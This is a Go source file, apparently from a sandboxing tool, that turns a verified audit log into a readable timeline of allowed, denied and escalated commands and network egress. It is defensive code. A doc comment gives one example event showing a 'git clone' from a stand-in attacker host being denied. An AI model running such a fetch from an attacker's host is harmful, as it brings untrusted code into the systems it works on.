package audit

import (
	"context"
	"errors"
	"fmt"
	"io"
	"net"
	"strconv"
	"strings"
	"time"

	"github.com/airlock-sandbox/airlock/internal/termtext"
)

// TimelineOptions configures Timeline.
type TimelineOptions struct {
	// Location is the time zone of the times shown; nil means local time.
	Location *time.Location
	// Follow keeps reading at the end of the input, showing events as
	// they are appended, until the context ends.
	Follow bool
	// Poll is how often Follow looks for new lines; 0 means 250ms.
	Poll time.Duration
}

// Timeline writes one readable line per event of the log r to w, with a
// date line whenever the date changes, verifying the chain as it goes. At
// the first bad line it writes "!! line N: why" and goes on showing the
// events that are intact on their own, each marked "?", then returns the
// *Error. Text from the log is shown with control and bidirectional
// characters escaped, so a hostile command line cannot drive the terminal.
func Timeline(ctx context.Context, w io.Writer, r io.Reader, opts TimelineOptions) (Report, error) {
	t := timeline{w: w, loc: opts.Location, v: NewVerifier("")}
	if t.loc == nil {
		t.loc = time.Local
	}
	poll := opts.Poll
	if poll <= 0 {
		poll = 250 * time.Millisecond
	}
	lr := newLineReader(r, MaxLineBytes)
	for {
		line, err := lr.next()
		switch {
		case err == nil:
			t.line(line)
			continue
		case errors.Is(err, ErrLineTooLong):
			t.fail(t.v.TooLong())
			return t.v.Report(), t.err
		case !errors.Is(err, io.EOF):
			return t.v.Report(), fmt.Errorf("audit: read: %w", err)
		}
		if !opts.Follow {
			if t.err == nil {
				_, err := t.v.End(line)
				t.fail(err)
			}
			return t.v.Report(), t.err
		}
		select {
		case <-ctx.Done():
			return t.v.Report(), t.err
		case <-time.After(poll):
		}
	}
}

// timeline is the state of one Timeline call.
type timeline struct {
	w    io.Writer
	loc  *time.Location
	v    *Verifier
	err  error
	date string
}

func (t *timeline) line(line []byte) {
	if t.err == nil {
		ev, ok, err := t.v.Line(line)
		if ok {
			t.show(ev, "")
			return
		}
		if err == nil {
			return // damaged: the next line says whether it was repaired
		}
		t.fail(err)
	}
	if ev, err := ParseLine(line); err == nil {
		t.show(ev, "? ")
	}
}

func (t *timeline) fail(err error) {
	if err == nil || t.err != nil {
		return
	}
	t.err = err
	fmt.Fprintf(t.w, "!! %v\n", err)
}

func (t *timeline) show(ev Event, mark string) {
	ts := ev.TS.In(t.loc)
	if d := ts.Format(time.DateOnly); d != t.date {
		t.date = d
		fmt.Fprintf(t.w, "--- %s %s\n", d, ts.Format("MST"))
	}
	fmt.Fprintf(t.w, "%s%s\n", mark, FormatEvent(ev, t.loc))
}

// FormatEvent renders one event as a timeline line: time, tool (or task),
// subject, what was decided and where, and the reason, e.g.
//
//	12:00:01 run_tests    git clone https://attacker.example/repo denied at the command gate: …
//
// Text from the event is escaped (see Timeline).
func FormatEvent(ev Event, loc *time.Location) string {
	if loc == nil {
		loc = time.Local
	}
	c := &ev.Context
	who := c.Tool
	if who == "" {
		who = c.Task
	}
	if who == "" {
		who = "-"
	}
	var b strings.Builder
	fmt.Fprintf(&b, "%s %-12s ", ev.TS.In(loc).Format(time.TimeOnly), termtext.Clip(who, 24))
	b.WriteString(termtext.Clip(subject(ev), 72))
	if v := verdict(ev); v != "" {
		b.WriteString(" " + v)
	}
	b.WriteString(": " + termtext.Clip(ev.Reason, 400))
	return b.String()
}

// subject names what the event is about.
func subject(ev Event) string {
	c := &ev.Context
	switch ev.Kind {
	case KindCommand:
		return commandLine(c)
	case KindEgress:
		host := c.Host
		if host == "" && len(c.Addresses) > 0 {
			host = c.Addresses[0]
		}
		if c.Port != 0 {
			return net.JoinHostPort(host, strconv.Itoa(int(c.Port)))
		}
		return host
	case KindResource:
		if c.Command != "" || c.Path != "" {
			return commandLine(c)
		}
		return "the run"
	case KindBehavioral:
		return "ALERT " + c.Alert
	}
	if c.Event != "" {
		return c.Event
	}
	return string(ev.Kind)
}

// verdict says what was decided and where.
func verdict(ev Event) string {
	gate := string(ev.Context.Gate)
	if gate == "" {
		gate = string(ev.Kind)
	}
	switch ev.Decision {
	case DecisionAllow:
		return "allowed at the " + gate + " gate"
	case DecisionDeny:
		return "denied at the " + gate + " gate"
	case DecisionEscalate:
		return "escalated at the " + gate + " gate (needs approval)"
	case DecisionKill:
		if ev.Context.KilledBy != "" {
			return "killed by the " + ev.Context.KilledBy + " cap"
		}
		return "killed by a cap"
	case DecisionInfo:
		if ev.Kind == KindResource {
			return "ended within its caps"
		}
	}
	return ""
}

// commandLine renders a command and its arguments, quoting an argument
// only where a shell reader would need it.
func commandLine(c *Context) string {
	name := c.Command
	if name == "" {
		name = c.Path
	}
	parts := []string{name}
	for _, a := range c.Args {
		if a == "" || strings.ContainsAny(a, " \t\n\"'\\$`;&|<>(){}*?[]#~") {
			a = strconv.Quote(a)
		}
		parts = append(parts, a)
	}
	return strings.Join(parts, " ")
}
